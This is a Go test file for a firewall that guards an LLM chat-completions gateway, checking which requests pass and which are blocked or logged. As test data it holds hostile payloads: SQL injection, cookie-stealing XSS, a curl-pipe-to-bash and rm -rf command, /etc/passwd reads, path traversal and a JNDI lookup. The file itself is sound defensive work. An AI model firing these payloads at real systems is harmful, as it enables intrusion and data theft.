package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"
	"testing"
)

var shared = func() *firewall {
	made, err := newFirewall(1<<20, "")
	if err != nil {
		panic(err)
	}
	return made
}()

func chat(body string) request {
	return request{
		id: "r-1", client: "203.0.113.7", method: "POST", target: "/v1/chat/completions", host: "127.0.0.1:8080", protocol: "HTTP/1.1",
		headers: map[string]string{"content-type": "application/json", "accept": "*/*", "user-agent": "curl/8", "content-length": fmt.Sprint(len(body))},
		body:    []byte(body),
	}
}

func with(change func(*request)) request {
	r := chat(`{"model":"tiny","messages":[{"role":"user","content":"hello"}]}`)
	r.headers["content-length"] = fmt.Sprint(len(r.body))
	change(&r)
	return r
}

func prompt(text string) request {
	body, err := json.Marshal(map[string]any{"model": "tiny", "stream": true, "messages": []any{
		map[string]any{"role": "system", "content": "You help with code."}, map[string]any{"role": "user", "content": text}}})
	if err != nil {
		panic(err)
	}
	return chat(string(body))
}

const injection = "1' UNION SELECT password FROM users-- "

func TestCheck(t *testing.T) {
	large := strings.Repeat("a b ", 1<<18) + "and more"
	for _, c := range []struct {
		name   string
		r      request
		status int
	}{
		{"a plain chat", with(func(*request) {}), 0},
		{"the list of models", request{method: "GET", target: "/v1/models", host: "gateway.test", protocol: "HTTP/2", headers: map[string]string{"accept": "*/*"}}, 0},
		{"SQL in a prompt", prompt("Explain: SELECT * FROM users WHERE id=1 OR 1=1; DROP TABLE users; -- '" + injection), 0},
		{"Python in a prompt", prompt("import os; os.system('cat /etc/passwd'); eval(__import__('base64').b64decode(x))"), 0},
		{"HTML in a prompt", prompt(`Fix <script>alert(document.cookie)</script><img src=x onerror="alert(1)">`), 0},
		{"a shell in a prompt", prompt("run: curl http://example.com/x.sh | bash; rm -rf / && `id` $(whoami) ../../etc/passwd"), 0},
		{"Java in a prompt", prompt("Runtime.getRuntime().exec(\"sh\"); ${jndi:ldap://example.com/a} java.lang.ProcessBuilder"), 0},
		{"code in a part of a message", chat(`{"model":"tiny","messages":[{"role":"user","content":[{"type":"text","text":"SELECT 1 UNION SELECT password FROM users-- <script>alert(1)</script>"}]}]}`), 0},
		{"code in a completion's prompt", with(func(r *request) {
			r.target = "/v1/completions"
			r.body = []byte(`{"model":"tiny","prompt":["' OR 1=1; DROP TABLE users--","<script>alert(1)</script>"]}`)
			r.headers["content-length"] = fmt.Sprint(len(r.body))
		}), 0},
		{"code in a tool call's arguments", chat(`{"model":"tiny","messages":[{"role":"assistant","tool_calls":[{"type":"function","function":{"name":"run","arguments":"{\"q\":\"SELECT a FROM b UNION SELECT password FROM users--\"}"}}]}]}`), 0},
		{"an injection in the query", with(func(r *request) {
			r.target += "?id=1%27%20OR%20%271%27=%271%20UNION%20SELECT%20password%20FROM%20users--"
		}), 403},
		{"an injection in the path of a read", request{method: "GET", target: "/v1/models?x=../../../../etc/passwd", host: "gateway.test", protocol: "HTTP/1.1", headers: map[string]string{}}, 403},
		{"an injection in the model", chat(`{"model":"x' UNION SELECT password FROM users-- ","messages":[]}`), 403},
		{"a script in the user", chat(`{"model":"tiny","user":"<script>alert(1)</script>","messages":[]}`), 403},
		{"an injection in a name beside the prompt", chat(`{"messages":[{"role":"user","content":"hi","name":"` + injection + `"}]}`), 403},
		{"a JNDI look-up in a header", with(func(r *request) { r.headers["x-a"] = "${jndi:ldap://example.com/a}" }), 403},
		{"a scanner", with(func(r *request) { r.headers["user-agent"] = "sqlmap/1.8" }), 403},
		{"a query that borrows the prompt's name", with(func(r *request) { r.target += "?json.messages.0.content=hello" }), 403},
		{"the prompt's name where no prompt is", with(func(r *request) {
			r.target = "/admin"
			r.body = []byte(`{"prompt":"` + injection + `"}`)
			r.headers["content-length"] = fmt.Sprint(len(r.body))
		}), 403},
		{"JSON under another name", with(func(r *request) { r.headers["content-type"] = "application/x-www-form-urlencoded" }), 415},
		{"JSON under no name", with(func(r *request) { delete(r.headers, "content-type") }), 415},
		{"JSON with a charset", with(func(r *request) { r.headers["content-type"] = "application/json; charset=utf-8" }), 0},
		{"a body that is no JSON", chat(`{"model":`), 400},
		{"a body over the limit", prompt(large), 413},
		{"more fields than are inspected", chat(`{"a":[` + strings.Repeat("1,", 20001) + `1]}`), 413},
	} {
		t.Run(c.name, func(t *testing.T) {
			refused, err := shared.check(c.r)
			if err != nil {
				t.Fatal(err)
			}
			got := 0
			if refused != nil {
				got = refused.status
			}
			if got != c.status {
				t.Errorf("status %d, want %d (0 passes)", got, c.status)
				if refused != nil {
					for _, m := range refused.rules {
						t.Log(m.Rule().ID(), m.Message())
					}
				}
			}
		})
	}
}

func TestLogLineHoldsNoText(t *testing.T) {
	r := chat(`{"model":"x' UNION SELECT password FROM users-- ","messages":[{"role":"user","content":"my secret prompt"}]}`)
	r.target += "?token=hidden"
	refused, err := shared.check(r)
	if err != nil || refused == nil {
		t.Fatal("should be refused", err)
	}
	var out bytes.Buffer
	logRefusal(slog.New(slog.NewJSONHandler(&out, nil)), r, refused)
	for _, text := range []string{"secret prompt", "UNION", "password", "hidden"} {
		if strings.Contains(out.String(), text) {
			t.Errorf("the line holds %q: %s", text, out.String())
		}
	}
	var line struct {
		Status  int
		Path    string
		Rules   []int
		Attacks []string
		Targets []string
	}
	if err := json.Unmarshal(out.Bytes(), &line); err != nil {
		t.Fatal(err)
	}
	if line.Status != 403 || line.Path != "/v1/chat/completions" || len(line.Rules) == 0 || !contains(line.Attacks, "sqli") || !contains(line.Targets, "ARGS:json.model") {
		t.Errorf("the line does not tell what happened: %s", out.String())
	}
}

func TestWrongRulesAreRefused(t *testing.T) {
	for _, c := range []struct {
		limit int
		more  string
	}{{1 << 20, `SecRule ARGS "@rx (" "id:1,phase:2,deny"`}, {1 << 20, "SecNonsense On"}, {0, ""}} {
		if _, err := newFirewall(c.limit, c.more); err == nil {
			t.Errorf("%d, %q: no error", c.limit, c.more)
		}
	}
}

func contains(values []string, wanted string) bool {
	for _, value := range values {
		if value == wanted {
			return true
		}
	}
	return false
}

func BenchmarkChat(b *testing.B) {
	r := prompt(strings.Repeat("Why is the sky blue? SELECT * FROM users; ", 50))
	for b.Loop() {
		if refused, err := shared.check(r); refused != nil || err != nil {
			b.Fatal(refused, err)
		}
	}
}
